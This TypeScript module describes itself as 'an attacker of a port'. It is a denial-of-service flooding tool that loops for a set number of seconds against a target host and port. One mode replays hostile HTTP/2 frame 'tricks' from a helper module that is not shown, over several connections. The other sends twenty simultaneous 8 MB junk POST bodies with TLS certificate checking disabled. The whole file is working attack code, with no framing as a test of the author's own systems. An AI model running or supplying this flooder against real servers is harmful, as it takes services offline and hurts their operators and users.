/** An attacker of a port. */
import { request } from 'node:https';
import { play, tricks, type Victim } from './frames.js';

/** What to attack, with what, and for how long. */
export interface Flood extends Victim {
  readonly seconds: number;
  /** Everything bad that HTTP/2 allows, or large bodies by HTTP/1.1. */
  readonly by: 'Frames' | 'Bodies';
}

/** Attacks. Resolves with how often each kind of attack was made. */
export async function flood(json: string): Promise<Readonly<Record<string, number>>> {
  const { seconds, by, host, port }: Flood = JSON.parse(json);
  const made: Record<string, number> = {};
  for (const end = performance.now() + seconds * 1000; performance.now() < end; ) {
    const counts = await (by === 'Frames' ? playAll({ host, port }) : postAll({ host, port }));
    for (const [name, count] of Object.entries(counts)) made[name] = (made[name] ?? 0) + count;
  }
  return made;
}

/** All tricks in turn, on four connections each. */
async function playAll(victim: Victim): Promise<Readonly<Record<string, number>>> {
  const counts: Record<string, number> = {};
  for (const [name, trick] of Object.entries(tricks)) {
    const rounds = await Promise.all(Array.from({ length: 4 }, () => play(trick, victim, 5000)));
    counts[name] = rounds.reduce((sum, count) => sum + count, 0);
  }
  return counts;
}

const body = Buffer.alloc(8 * 2 ** 20, '{');

/** Twenty bodies of 8 MB at once. */
async function postAll(victim: Victim): Promise<Readonly<Record<string, number>>> {
  await Promise.all(Array.from({ length: 20 }, () => post(victim)));
  return { 'bodies of 8 MB': 20 };
}

/** Resolves when it is over, however it ended. */
function post(victim: Victim): Promise<unknown> {
  const sent = request({ ...victim, method: 'POST', path: '/', rejectUnauthorized: false, agent: false, headers: { 'content-type': 'application/json' } });
  sent.on('response', (response) => response.resume()).on('error', () => undefined);
  const over = new Promise((resolve) => sent.once('close', resolve));
  sent.end(body);
  return over;
}
